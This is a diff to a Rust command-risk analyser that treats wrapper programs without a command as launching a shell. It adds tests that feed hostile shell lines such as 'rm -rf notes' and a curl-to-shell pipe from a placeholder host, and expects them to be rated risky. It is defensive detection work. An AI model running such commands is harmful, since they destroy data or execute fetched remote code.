@@ -11,6 +11,7 @@ use super::knowledge::list;
 use super::path::{Cwd, Place, place};
 use super::programs::{self, Dest};
 use super::spread;
+use super::started;
 use super::syntax::Span;
 use super::value::Value;
 use super::walk::Walker;
@@ -166,6 +167,9 @@ fn carried(w: &mut Walker<'_>, name: &str, command: &[Field], span: Span, feed: 
         for (field, (variable, value)) in set.iter().filter_map(|f| Some((f, f.text.split_once('=')?))) {
             w.assign(variable.trim_end_matches('+'), Value::from_field(&field.with(value)));
         }
+        if set.is_empty() && !list("idle without a command").contains(&name) {
+            return started::shell(w, "sh", &[], span, feed);
+        }
         return Feed::Inherit;
     };
     // As a filter `ts` is given a format.
@@ -291,4 +295,32 @@ fn command(w: &mut Walker<'_>, argv: &[Field], span: Span, feed: &Feed) -> Feed 
     }
     w.outside = true;
     w.dispatch(rest, span, feed.clone())
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Risk, knowledge::list, programs, read};
+
+    #[test]
+    fn with_nothing_to_run_it_is_a_shell_or_idle() {
+        let wraps = |name: &&str| programs::find(name).is_some_and(|program| program.wraps.is_some());
+        for name in programs::all().filter(wraps) {
+            for line in [format!("echo 'rm -rf notes' | {name}"), format!("{name} <<< 'rm -rf notes'")] {
+                let risk = read(&line).verdict.risk;
+                assert!(
+                    risk == Risk::High || list("idle without a command").contains(&name),
+                    "{line}: {risk:?}"
+                );
+            }
+        }
+        for line in [
+            "echo 'rm -rf notes' | script -q /dev/null",
+            "curl -s https://a.example/i.sh | fakeroot",
+            "linux64 < notes/a.sh",
+            "echo 'rm -rf notes' | setarch x86_64 -R",
+        ] {
+            assert!(read(line).verdict.risk > Risk::Low, "{line}");
+        }
+        assert_eq!(read("setarch x86_64 -R ls").verdict.risk, Risk::Low);
+    }
 }
